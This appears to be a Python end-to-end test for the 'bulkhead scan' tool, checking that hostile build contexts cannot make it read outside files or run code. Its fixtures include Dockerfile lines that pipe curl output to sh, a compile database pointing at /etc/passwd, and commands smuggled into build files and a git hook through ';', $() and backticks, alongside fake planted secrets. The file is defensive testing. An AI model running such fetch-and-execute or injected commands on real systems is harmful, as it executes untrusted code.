#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Hostile and broken build contexts, end to end: what a pull request from a
# stranger can put in front of `bulkhead scan`. Each case is a context with
# one certain finding beside the hostile part; the check is that the scan
# ends, within bounded time and memory, with that finding still reported,
# the hostile part diagnosed (file and line where there is one), the exit
# code saying whether results are incomplete, the reports valid JSON and
# SARIF, nothing outside the context read, and nothing from the tree run.
# Wall time and peak RSS of every scan are printed (as TAP comments): the
# bounds below are hang and blow-up detectors, not speed targets (the
# AddressSanitizer build runs this too).
#
#   tests/cli/hostile_check.py BULKHEAD SOURCE_ROOT
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from tap import check, finish  # noqa: E402

MAX_SECONDS = 300
MAX_RSS_MB = 2048
BUG = '#include <string.h>\nvoid copy(char *s)\n{\n\tchar b[4];\n\tstrcpy(b, s);\n}\n'
BUG_AT = ("good.c", 5, 2)
# A planted secret outside the context; its text must never appear.
OUTSIDE_SECRET = "aws_secret_access_key = Zq8wOutsideTheContextK7MDENGbPxRfiCY9x2"

bh = None


def scan(ctx, *args, env=None, fmt="json"):
    """Runs `bulkhead scan`; returns (exit code, report text, stderr, seconds, MB)."""
    out = os.path.join(ctx + ".report")
    cmd = [bh, "scan", "--no-cache", "--format", fmt, "-o", out, *args, ctx]
    start = time.monotonic()
    p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                         env=dict(os.environ, **(env or {})))
    err = b""
    # stderr drained while it runs: libclang's own crash reports are long.
    err = p.stderr.read()
    _, status, usage = os.wait4(p.pid, 0)
    p.returncode = os.waitstatus_to_exitcode(status)
    secs = time.monotonic() - start
    mb = usage.ru_maxrss / 1024
    text = open(out, encoding="utf-8", errors="strict").read() if os.path.exists(out) else ""
    print("# %s %s: exit %d, %.2f s, %.0f MB" % (os.path.basename(ctx), " ".join(args) or fmt,
                                                 p.returncode, secs, mb))
    return p.returncode, text, err.decode("utf-8", "replace"), secs, mb


def bounded(name, secs, mb):
    check(secs < MAX_SECONDS, "%s: ends in bounded time (%.1f s)" % (name, secs))
    check(mb < MAX_RSS_MB, "%s: peak RSS bounded (%.0f MB)" % (name, mb))


def findings(report):
    return json.loads(report)["findings"]


def path_of(item):
    return (item.get("location") or {}).get("path")


def has_finding(report, path, line, rule=None):
    return any(path_of(f) == path and f["location"]["line"] == line and (rule is None or f["rule"] == rule)
               for f in findings(report))


def diags(report):
    return json.loads(report).get("diagnostics", [])


def diag_rules(report):
    return [d.get("code") for d in diags(report)]


def context(base, name, files=None):
    ctx = os.path.join(base, name)
    os.makedirs(ctx)
    write(ctx, "good.c", BUG)
    for path, text in (files or {}).items():
        write(ctx, path, text)
    return ctx


def write(ctx, path, text):
    full = os.path.join(ctx, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(text if isinstance(text, bytes) else text.encode())


def good_still_reported(name, report):
    check(has_finding(report, "good.c", BUG_AT[1], "c.unbounded-copy"),
          "%s: the other file's finding is still reported" % name, report[:2000])


# ------------------------------------------------------------------ cases

def symlinks(base):
    out = os.path.join(base, "outside")
    os.makedirs(out)
    write(out, "outside.c", BUG.replace("copy", "outside_copy"))
    write(out, "secret.env", OUTSIDE_SECRET + "\n")
    write(out, "config.json", '{"rules": {"c.unbounded-copy": "off"}}\n')
    write(out, "dockerignore", "good.c\n")
    write(out, "compile_commands.json",
          '[{"directory": "%s", "file": "good.c", "arguments": ["cc", "-DNOPE"]}]\n' % out)
    write(out, "Dockerfile", "FROM outside:1\nRUN curl -k https://outside | sh\n")
    ctx = context(base, "symlinks")
    links = {
        "leak.c": out + "/outside.c",               # a source out
        "chain1.env": "chain2.env",                  # a chain that ends out
        "chain2.env": "chain3.env",
        "chain3.env": out + "/secret.env",
        "up.env": "../outside/secret.env",           # relative, out
        ".bulkhead.json": out + "/config.json",      # the config itself
        ".dockerignore": out + "/dockerignore",
        "compile_commands.json": out + "/compile_commands.json",
        "Dockerfile": out + "/Dockerfile",
        "outdir": out,                               # a directory out
        "root": "/",
        "loop-a": "loop-b",                          # a loop
        "loop-b": "loop-a",
        "self": "self",
        "dangling.h": "nowhere.h",
    }
    for name, target in links.items():
        os.symlink(target, os.path.join(ctx, name))
    rc, report, err, secs, mb = scan(ctx)
    bounded("symlinks", secs, mb)
    check(rc == 1, "symlinks: exit 1 (findings), not an error", "exit %d\n%s" % (rc, err))
    good_still_reported("symlinks", report)
    # (The diagnostics name where a link points; what is there is not read.)
    for leaked in ("outside_copy", "Zq8wOutside", "outside:1", "curl -k", "root:x:0"):
        check(leaked not in report and leaked not in err,
              "symlinks: nothing read through a link out (%s)" % leaked, report[:3000])
    rules = diag_rules(report)
    check(rules.count("disc.symlink-outside") >= 8,
          "symlinks: every link out is diagnosed", "\n".join(map(str, rules)))
    check(any(r in ("disc.symlink-loop", "disc.symlink-dangling") for r in rules),
          "symlinks: loops and dangling links are noted", "\n".join(map(str, rules)))


def huge_text(base):
    ctx = context(base, "huge")
    line = b"lorem ipsum dolor sit amet, consectetur adipiscing elit 0123456789\n"
    with open(os.path.join(ctx, "huge.txt"), "wb") as f:
        for _ in range(100 * 1024 * 1024 // len(line) + 1):
            f.write(line)
    rc, report, err, secs, mb = scan(ctx)
    bounded("100 MB file", secs, mb)
    good_still_reported("100 MB file", report)
    check("disc.too-large" in diag_rules(report), "100 MB file: listed, not read, with a note",
          report[:2000])


def long_lines(base):
    pad = "a" * (1 << 20)
    ctx = context(base, "long-lines", {
        "one.c": '#include <string.h>\nvoid one(char *s) { char b[4]; const char *p = "%s"; '
                 'strcpy(b, s); (void)p; }\n' % pad,
        # bulkhead: ignore[secret.generic-credential] a test vector: the test needs a secret the scanner finds
        "app.conf": pad + " api_token = Tk9mQ2xWb3JkQmFzZTY0SGlnaEVudHJvcHk\n",
    })
    rc, report, err, secs, mb = scan(ctx)
    bounded("1 MB lines", secs, mb)
    good_still_reported("1 MB lines", report)
    check(has_finding(report, "one.c", 2, "c.unbounded-copy"),
          "1 MB lines: the call after a 1 MB literal is found", report[:2000])
    check(any(path_of(f) == "app.conf" and f["rule"].startswith("secret.") for f in findings(report)),
          "1 MB lines: the secret at the end of a 1 MB line is found", report[:2000])
    check("Tk9mQ2xWb3JkQmFzZTY0SGlnaEVudHJvcHk" not in report, "1 MB lines: the secret is not printed whole")
    rc, text, err, secs, mb = scan(ctx, fmt="text")
    check(len(text) < 20000, "1 MB lines: the text report shows a window of the line (%d bytes)" % len(text))


def many_files(base):
    ctx = context(base, "many-files")
    for d in range(100):
        os.makedirs(os.path.join(ctx, "d%02d" % d))
        for i in range(1000):
            with open(os.path.join(ctx, "d%02d" % d, "f%03d.txt" % i), "w") as f:
                f.write("plain text %d\n" % i)
    rc, report, err, secs, mb = scan(ctx)
    bounded("100,000 files", secs, mb)
    good_still_reported("100,000 files", report)
    check(json.loads(report)["summary"]["files_scanned"] >= 100001, "100,000 files: all listed",
          json.dumps(json.loads(report)["summary"]))


def deep_directories(base):
    ctx = context(base, "deep-dirs")
    path = ctx
    for i in range(200):
        path = os.path.join(path, "n%d" % i)
        if i == 100:
            write(path, "mid.c", BUG.replace("copy", "mid_copy"))
    write(path, "bottom.c", BUG.replace("copy", "bottom_copy"))
    rc, report, err, secs, mb = scan(ctx)
    bounded("200-level nesting", secs, mb)
    good_still_reported("200-level nesting", report)
    check(any(path_of(f).endswith("n100/mid.c") for f in findings(report)),
          "200-level nesting: a file 101 levels down is analysed", report[:2000])
    check("disc.too-deep" in diag_rules(report), "200-level nesting: the cut is noted")


def nested_c(base):
    n = 10000
    ctx = context(base, "nested-c", {
        "parens.c": "int p(int x) { return " + "(" * n + "x" + ")" * n + "; }\n",
        "braces.c": "int q(int x) { " + "{" * n + "x++;" + "}" * n + " return x; }\n",
    })
    rc, report, err, secs, mb = scan(ctx)
    bounded("10,000 nested parentheses and braces", secs, mb)
    good_still_reported("10,000 nested parentheses and braces", report)
    check(rc == 2, "nested: exit 2 (clang refuses the nesting: results incomplete)", "exit %d" % rc)
    paths = [path_of(d) for d in diags(report)]
    check("parens.c" in paths and "braces.c" in paths, "nested: each file's error is diagnosed",
          "\n".join(map(str, paths)))


def deep_expression(base):
    # Deeper than clang's recursion has stack for: `clang -fsyntax-only`
    # itself dies of it. The parse is abandoned, the rest goes on. (Its
    # memory is not given back, and LeakSanitizer is told so.)
    ctx = context(base, "deep-expression", {
        "chain.c": "int chain(void) { return " + "+".join(["1"] * 200000) + "; }\n",
        "unary.c": "int unary(int x) { return " + "-" * 100000 + "x; }\n",
    })
    rc, report, err, secs, mb = scan(ctx)
    bounded("deep expressions", secs, mb)
    check(rc == 2, "deep expressions: exit 2 (results incomplete)", "exit %d\n%s" % (rc, err[-2000:]))
    good_still_reported("deep expressions", report)
    for path in ("chain.c", "unary.c"):
        check(any(path_of(d) == path and d["code"] == "clang.parse-failed" for d in diags(report)),
              "deep expressions: %s is diagnosed as not analysed" % path, json.dumps(diags(report))[:2000])


def big_switch(base):
    cases = "".join("\tcase %d: r += %d; break;\n" % (i, i) for i in range(50000))
    ctx = context(base, "switch", {
        "switch.c": "#include <string.h>\nint sw(int x, char *s)\n{\n\tchar b[4];\n\tint r = 0;\n"
                    "\tswitch (x) {\n" + cases + "\tdefault: strcpy(b, s);\n\t}\n\treturn r;\n}\n",
    })
    rc, report, err, secs, mb = scan(ctx)
    bounded("50,000-case switch", secs, mb)
    good_still_reported("50,000-case switch", report)
    check(has_finding(report, "switch.c", 50007, "c.unbounded-copy"),
          "50,000-case switch: the bug in its default is found", report[:2000])


def big_dockerfile(base):
    kinds = ["RUN echo %d && curl -k https://example.com/%d | sh", "ENV V%d=%d", "LABEL l%d=%d",
             "ARG A%d=%d", "WORKDIR /w%d/%d", "COPY good.c /src/%d/%d.c", "EXPOSE %d%d",
             "USER u%d:%d", "HEALTHCHECK CMD true %d %d", "RUN <<EOF\necho %d %d\nEOF"]
    lines = ["FROM alpine:3.20 AS build"]
    for i in range(5000):
        lines.append(kinds[i % len(kinds)] % (i, i % 7))
    # A RUN nested deeper than the shell walk goes, on the last line.
    lines.append("RUN " + "$(echo " * 300 + "true" + ")" * 300)
    text = "\n".join(lines) + "\n"
    deep_line = text.count("\n")
    ctx = context(base, "dockerfile", {"Dockerfile": text})
    rc, report, err, secs, mb = scan(ctx)
    bounded("5,000-instruction Dockerfile", secs, mb)
    good_still_reported("5,000-instruction Dockerfile", report)
    check(sum(f["rule"] == "docker.curl-insecure" or f["rule"].startswith("docker.")
              for f in findings(report)) >= 500,
          "5,000-instruction Dockerfile: its instructions are all checked",
          str(sum(f["rule"].startswith("docker.") for f in findings(report))))
    check(any(d["code"] == "img.shell-truncated" and d["location"]["line"] == deep_line for d in diags(report)),
          "5,000-instruction Dockerfile: the RUN nested too deeply is noted at its line",
          json.dumps(diags(report))[:2000])


def encodings(base):
    bad_name = b"bad\xff\xfename.c"
    ctx = context(base, "encodings", {
        "bom_crlf.c": b"\xef\xbb\xbf" + BUG.replace("copy", "crlf_copy").replace("\n", "\r\n").encode(),
        "literal.c": b'#include <string.h>\n/* \xc3\x28 \xff */\nvoid lit(char *s) { char b[4]; '
                     b'const char *m = "\xff\xfe"; strcpy(b, s); (void)m; }\n',
        "nul.c": b"int x;\n\0\0\0 junk\n",
        "Dockerfile": b"\xef\xbb\xbfFROM alpine:3.20\r\nCOPY . /app\r\nRUN cc -o /app/x /app/good.c\r\n",
    })
    with open(os.path.join(ctx.encode(), bad_name), "wb") as f:
        f.write(BUG.replace("copy", "named_copy").encode())
    rc, report, err, secs, mb = scan(ctx)
    bounded("encodings", secs, mb)
    good_still_reported("encodings", report)
    check(has_finding(report, "bom_crlf.c", 5, "c.unbounded-copy"),
          "encodings: a BOM and CRLF lines keep line numbers", report[:2000])
    check(has_finding(report, "literal.c", 3, "c.unbounded-copy"),
          "encodings: invalid UTF-8 in a comment and a literal", report[:2000])
    check("disc.binary" in diag_rules(report), "encodings: NUL bytes make a file binary, noted")
    named = [f for f in findings(report) if "name.c" in path_of(f)]
    check(len(named) == 1, "encodings: a file whose name is not UTF-8 is reported, not dropped",
          report[:2000])
    check(not any(f["rule"] == "docker.parse-error" for f in findings(report)),
          "encodings: a Dockerfile with a BOM and CRLF parses", report[:2000])
    rc, sarif, err, secs, mb = scan(ctx, fmt="sarif")
    doc = json.loads(sarif)
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in doc["runs"][0]["results"] if r.get("locations")]
    check("bad%FF%FEname.c" in uris, "encodings: SARIF percent-encodes the name's bytes", "\n".join(uris))
    validate = os.path.join(os.path.dirname(os.path.abspath(__file__)), "validate_sarif.sh")
    v = subprocess.run(["bash", validate, ctx + ".report"], capture_output=True, text=True)
    check(v.returncode == 0, "encodings: the SARIF report passes the multitool", v.stdout[-3000:] + v.stderr[-2000:])
    # Same bytes whatever the job count, and from one run to the next.
    outs = []
    for jobs in ("1", "2", "2"):
        _, text, _, _, _ = scan(ctx, "-j", jobs)
        outs.append(text)
    check(outs[0] == outs[1] == outs[2], "encodings: -j 1, -j 2 and a second -j 2 run agree byte for byte")


def malformed(base):
    ctx = context(base, "malformed")
    cases = [
        ("compile_commands.json", '[{"directory": "/src", "file": ', "compdb.malformed", "truncated"),
        ("compile_commands.json", '[{"directory": [], "file": 3, "arguments": "cc"}, 7, null]',
         "compdb.", "wrong types"),
        ("compile_commands.json", '[{"directory": "/", "file": "/etc/passwd", "command": "cc -c /etc/passwd"}]',
         None, "points outside the context"),
        (".bulkhead.json", '{"rules": 5, "frobnicate": true, "taint": {"x": 1}}', "config.", "wrong types"),
        (".bulkhead.json", '{"rules": {"c.unbounded-copy": "loud", "no.such-rule": "off"}}', "config.",
         "bad values"),
    ]
    for path, text, rule, what in cases:
        write(ctx, path, text)
        rc, report, err, secs, mb = scan(ctx)
        name = "%s %s" % (path, what)
        bounded(name, secs, mb)
        good_still_reported(name, report)
        if rule:
            check(rc == 2, "%s: exit 2 (results incomplete)" % name, "exit %d\n%s" % (rc, err[-1000:]))
            check(any(r and r.startswith(rule) for r in diag_rules(report)),
                  "%s: diagnosed (%s)" % (name, rule), "\n".join(map(str, diag_rules(report))))
        check("root:x:0:0" not in report, "%s: nothing read from outside" % name)
        os.unlink(os.path.join(ctx, path))
    write(ctx, "old-baseline.json", '{"version": 0, "findings": [{"fingerprint": 12}]}')
    rc, report, err, secs, mb = scan(ctx, "--baseline", os.path.join(ctx, "old-baseline.json"))
    good_still_reported("baseline of another version", report)
    check(rc == 2 and "baseline.malformed" in diag_rules(report) + [err],
          "baseline of another version: exit 2 and diagnosed", "exit %d %s" % (rc, err[-500:]))


def nothing_runs(base):
    marker = os.path.join(base, "MARKER")
    touch = "touch %s" % marker
    ctx = context(base, "nothing-runs", {
        "compile_commands.json": json.dumps([
            {"directory": ".", "file": "good.c", "command": "cc -c good.c; %s" % touch},
            {"directory": ".", "file": "good.c", "command": "cc $(%s) `%s` -c good.c" % (touch, touch)},
            {"directory": ".", "file": "b.c", "arguments": ["sh", "-c", touch]},
        ]),
        "b.c": "int b;\n",
        "Makefile": "CC = %s; cc\nX := $(shell %s)\nall:\n\t%s\n\t$(CC) -c good.c\n" % (touch, touch, touch),
        "CMakeLists.txt": "execute_process(COMMAND %s)\nadd_executable(x good.c)\n" % touch,
        "meson.build": "run_command('touch', '%s')\nexecutable('x', 'good.c')\n" % marker,
        "configure": "#!/bin/sh\n%s\n" % touch,
        ".bulkhead.json": json.dumps({"taint": ["source $(%s) ret" % touch]}),
        "Dockerfile": "# syntax=docker/dockerfile:1\nFROM alpine:3.20\nRUN %s\nCMD %s\n" % (touch, touch),
        ".git/hooks/post-checkout": "#!/bin/sh\n%s\n" % touch,
    })
    os.chmod(os.path.join(ctx, "configure"), 0o755)
    scan(ctx)
    scan(ctx, fmt="sarif")
    subprocess.run([bh, "image", ctx], capture_output=True)
    check(not os.path.exists(marker), "nothing from the tree is run (compile_commands.json, Makefile, "
          "CMake, meson, configure, .bulkhead.json, Dockerfile)")


def main():
    global bh
    bh, _root = sys.argv[1], sys.argv[2]
    base = tempfile.mkdtemp(prefix="bh-hostile-")
    try:
        for case in (symlinks, huge_text, long_lines, many_files, deep_directories, nested_c,
                     deep_expression, big_switch, big_dockerfile, encodings, malformed, nothing_runs):
            case(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)
    sys.exit(finish())


if __name__ == "__main__":
    main()
